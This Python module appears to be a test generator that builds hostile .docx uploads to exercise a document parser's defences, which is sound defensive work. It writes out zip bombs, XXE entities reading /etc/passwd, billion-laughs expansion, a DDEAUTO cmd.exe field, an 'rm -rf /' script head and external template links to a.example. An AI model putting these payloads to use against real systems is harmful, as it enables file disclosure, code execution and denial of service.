# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
"""Hostile uploads, generated: (family, what it tries, bytes)."""

import io
import struct
import zipfile

from docx import Document
from quality_defect_documents import package

from .agency import BLANK
from .hostile_templates import escapes, loops, unknown

PARTS = package.members(BLANK)
MAIN = package.MAIN
RELS = "word/_rels/document.xml.rels"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def with_part(name, content):
    return package.pack({**PARTS, name: content})


def in_body(xml):
    """Return the blank form with XML at the start of its body."""
    body = PARTS[MAIN].replace(b"<w:body>", b"<w:body>" + xml.encode(), 1)
    return with_part(MAIN, body)


def bombs():
    for name, mega in (("word/media/a.bin", 100), ("word/a.xml", 65), (MAIN, 70)):
        for fill in (b"\x00", b" ", b"a", b"<a/>"):
            content = fill * (mega * 2**20 // len(fill))
            yield f"{mega} MB of {fill!r} as {name}", with_part(name, content)
    for count in (501, 2000, 10000):
        many = {f"word/{number}.xml": b"<a/>" for number in range(count)}
        yield f"{count} parts", package.pack({**PARTS, **many})
    for size in (0, 1, 2**31, 2**32 - 1):
        yield f"a size announced as {size}", announced(size)
    inner = with_part("word/a.bin", b"\x00" * 80 * 2**20)
    for depth in range(1, 4):
        inner = with_part("word/embeddings/in.docx", inner)
        yield f"bombs in a file in a file, {depth} deep", inner


def announced(size):
    """Return the form, the size of its text announced falsely."""
    data = bytearray(BLANK)
    at = data.rfind(b"PK\x01\x02")
    while data[at + 46 : at + 46 + len(MAIN)] != MAIN.encode():
        at = data.rfind(b"PK\x01\x02", 0, at)
    data[at + 24 : at + 28] = struct.pack("<I", size)
    return bytes(data)


def cut():
    for number in range(1, 61):
        yield f"cut at {number}/61", BLANK[: len(BLANK) * number // 61]


def types():
    heads = {
        "nothing": b"",
        "a PDF": b"%PDF-1.7\n%\xe2\xe3\n1 0 obj<</JS(app.alert(1))>>endobj",
        "a picture": b"\x89PNG\r\n\x1a\n" + b"\x00" * 500,
        "an old Word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 4096,
        "a program": b"MZ" + b"\x90" * 1000,
        "another program": b"\x7fELF" + b"\x02" * 1000,
        "a script": b"#!/bin/sh\nrm -rf /\n",
        "a page": b"<html><script>alert(1)</script></html>",
        "flat XML": PARTS[MAIN],
        "RTF": b"{\\rtf1{\\object\\objdata 0105}}",
        "a mail": b"From: a@b.example\n\ntext",
        "gzip": b"\x1f\x8b\x08" + b"\x00" * 100,
        "noise": bytes(range(256)) * 64,
        "an empty zip": zipped({}),
        "a zip of text": zipped({"a.txt": b"a"}),
        "a workbook": zipped({"xl/workbook.xml": b"<a/>"}),
        "a Word without types": zipped({MAIN: PARTS[MAIN]}),
        "a Word without text": zipped({"[Content_Types].xml": b"<a/>"}),
        "a Word twice in one": twice(),
        "an empty body": with_part(MAIN, b""),
        "a body that is no Word's": with_part(MAIN, b"<a/>"),
        "a body in another language": with_part(
            MAIN, PARTS[MAIN].replace(W.encode(), b"urn:w")
        ),
        "types of nobody": with_part("[Content_Types].xml", b"<a/>"),
        "no relations": with_part("_rels/.rels", b"<a/>"),
        "nothing to fill": empty_word(),
    }
    yield from heads.items()


def zipped(parts):
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return target.getvalue()


def twice():
    target = io.BytesIO(BLANK)
    with zipfile.ZipFile(target, "a") as archive:
        archive.writestr("word/./document.xml", PARTS[MAIN])
        archive.fp.seek(0, 2)
        # a second body under the same name: which one is read?
        archive.NameToInfo.clear()
        archive.writestr(MAIN, PARTS[MAIN])
    return target.getvalue()


def empty_word():
    target = io.BytesIO()
    document = Document()
    document.add_paragraph("rien")
    document.save(target)
    return target.getvalue()


def active():
    for name in (
        *("word/vbaProject.bin", "word/vbaData.xml", "customUI/vbaProject.bin"),
        *("word/embeddings/oleObject1.bin", "word/embeddings/a.docx"),
        *("word/activeX/activeX1.xml", "word/activeX/activeX1.bin"),
    ):
        yield name, with_part(name, b"<a/>")
    for tag in (
        *("object", "control", "altChunk", "ins", "del", "moveFrom", "moveTo"),
        *("commentReference", "checkBox"),
    ):
        yield f"w:{tag}", in_body(f"<w:p><w:r><w:{tag}/></w:r></w:p>")
    for tag in ("vanish", "specVanish", "webHidden", "rPrChange"):
        yield f"w:{tag}", in_body(f"<w:p><w:r><w:rPr><w:{tag}/></w:rPr></w:r></w:p>")
    for code in (
        *('DDE excel "a"', 'DDEAUTO c:\\\\cmd.exe "/k calc"', "INCLUDETEXT a.txt"),
        *("INCLUDEPICTURE http://a.example/x", "LINK Excel.Sheet a", "MACROBUTTON a b"),
    ):
        field = f"<w:r><w:instrText> {code} </w:instrText></w:r>"
        simple = f"<w:fldSimple w:instr=' {code.replace(chr(34), '')} '/>"
        halves = "".join(
            f"<w:r><w:instrText>{half}</w:instrText></w:r>"
            for half in (code[:2], code[2:])
        )
        for way in (
            field,
            simple,
            halves,
            field.lower().replace("instrtext", "instrText"),
        ):
            yield f"{code[:12]} as {way[:24]}", in_body(f"<w:p>{way}</w:p>")


def links():
    kinds = (
        *("attachedTemplate", "image", "oleObject", "frame", "subDocument"),
        *("hyperlink", "mailMergeSource"),
    )
    targets = ("http://a.example/t.dotm", "\\\\a.example\\t", "file:///etc/passwd")
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    for kind in kinds:
        for target in targets:
            relation = (
                f'<Relationship Id="x9" Type="{base}{kind}" Target="{target}" '
                'TargetMode="External"/></Relationships>'
            )
            rels = PARTS[RELS].replace(b"</Relationships>", relation.encode())
            yield f"{kind} to {target}", with_part(RELS, rels)
    for name in ("word/_rels/settings.xml.rels", "word/_rels/header1.xml.rels"):
        yield (
            f"a template in {name}",
            with_part(
                name,
                b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                b'relationships"><Relationship Id="a" Type="t" Target="http://a" '
                b'TargetMode="External"/></Relationships>',
            ),
        )


def entities():
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    tricks = {
        "a file": '<!ENTITY a SYSTEM "file:///etc/passwd">',
        "the network": '<!ENTITY a SYSTEM "http://127.0.0.1:9/">',
        "a parameter": '<!ENTITY % a SYSTEM "http://127.0.0.1:9/"> %a;',
        "laughs": f'<!ENTITY l0 "ha">{laughs}',
        "a long text": f'<!ENTITY a "{"a" * 100000}">',
        "nothing": "",
    }
    parts = (MAIN, "word/header1.xml", "word/styles.xml", "docProps/core.xml")
    for trick, declared in tricks.items():
        for name in parts:
            content = PARTS.get(name, b"<?xml version='1.0'?><a></a>")
            head, _mark, rest = content.partition(b"?>")
            dtd = f"?><!DOCTYPE x [{declared}]>".encode()
            yield f"{trick} in {name}", with_part(name, head + dtd + rest)


def nested():
    for tag in ("w:p", "w:r", "w:sdt", "w:hyperlink", "w:smartTag", "w:tc", "x"):
        for depth in (300, 5000, 100000):
            xml = f"<{tag}>" * depth + f"</{tag}>" * depth
            yield f"{depth} of {tag}", in_body(xml)


FAMILIES = {
    "bombs": bombs,
    "cut short": cut,
    "other types": types,
    "macros, objects, fields, tracked": active,
    "links to outside": links,
    "entities": entities,
    "escapes": escapes,
    "loops and sizes": loops,
    "unknown and broken": unknown,
    "nesting": nested,
}
